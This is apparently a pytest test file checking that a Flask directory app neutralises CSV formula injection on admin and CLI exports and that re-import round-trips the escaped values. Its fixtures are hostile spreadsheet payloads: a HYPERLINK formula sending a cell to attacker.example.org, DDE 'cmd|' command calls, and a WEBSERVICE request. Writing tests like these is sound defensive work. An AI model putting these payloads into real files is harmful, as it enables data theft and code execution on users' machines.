"""CSV formula injection: cells a spreadsheet would run as formulas are neutralised on every
export (the admin download and `flask export`), and re-importing the export restores them,
so export → import → export still round-trips."""

from __future__ import annotations

import csv
import io

import pytest
from sqlmodel import select

from directory.exports import export_listings_csv
from directory.formats.csv import neutralise_formula, restore_formula
from directory.imports import import_listing_csv
from directory.models import Group
from tests_support import FIXED_NOW

HOSTILE_NAMES = [
    '=HYPERLINK("http://attacker.example.org/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _assert_no_formula_cell(text: str) -> None:
    for cell in _cells(text):
        if cell and cell[0] in "=+-@\t\r":
            # Only a plain number (a longitude, a phone number) may start so: no letters.
            assert not any(c.isalpha() for c in cell), cell


@pytest.mark.parametrize("value", [
    "=1+1", "+cmd|x", "-x", "@x", "\tx", "\rx", "'=x", "''+x", "'tis", "plain", "",
    "-122.6535", "+1 555-0100", "'", "'-1",
])
def test_neutralising_a_cell_is_undone_exactly_by_restoring_it(value):
    written = neutralise_formula(value)
    assert restore_formula(written) == value
    if value and value[0] in "=+-@\t\r" and any(c.isalpha() for c in value):
        assert written.startswith("'")


def test_plain_numbers_are_exported_as_numbers():
    assert neutralise_formula("-122.6535") == "-122.6535"
    assert neutralise_formula("+1 (555) 010-0100") == "+1 (555) 010-0100"


def test_admin_export_neutralises_formulas_and_reimport_round_trips(
    client, session, login_as, make_group
):
    for n, name in enumerate(HOSTILE_NAMES):
        make_group(name=name, description=f"=WEBSERVICE(\"http://x.example.org/{n}\")")
    login_as("admin")
    first = client.get("/admin/export.csv").get_data(as_text=True)
    _assert_no_formula_cell(first)
    assert "'=HYPERLINK(" in first and "'+cmd|" in first and "'@SUM" in first
    for group in session.exec(select(Group)).all():
        session.delete(group)
    session.commit()
    report = import_listing_csv(session, first, filename="export.csv", now=FIXED_NOW)
    assert report.ok, report.errors[:3]
    session.commit()
    names = {g.name for g in session.exec(select(Group)).all()}
    assert names == set(HOSTILE_NAMES)  # the names as typed, not with the apostrophe
    assert client.get("/admin/export.csv").get_data(as_text=True) == first
    # Importing the export again changes nothing.
    again = import_listing_csv(session, first, filename="export.csv", now=FIXED_NOW)
    assert len(again.unchanged) == len(HOSTILE_NAMES) and not again.updated


def test_cli_export_neutralises_formulas(runner, make_group, session):
    make_group(name="@SUM(A1:A9)", contact_phone="+1 555-0100")
    result = runner.invoke(args=["export", "--format", "csv"])
    assert result.exit_code == 0, result.output
    _assert_no_formula_cell(result.output)
    assert "'@SUM(A1:A9)" in result.output
    assert "+1 555-0100" in result.output and "'+1 555-0100" not in result.output
    assert result.output == export_listings_csv(session)
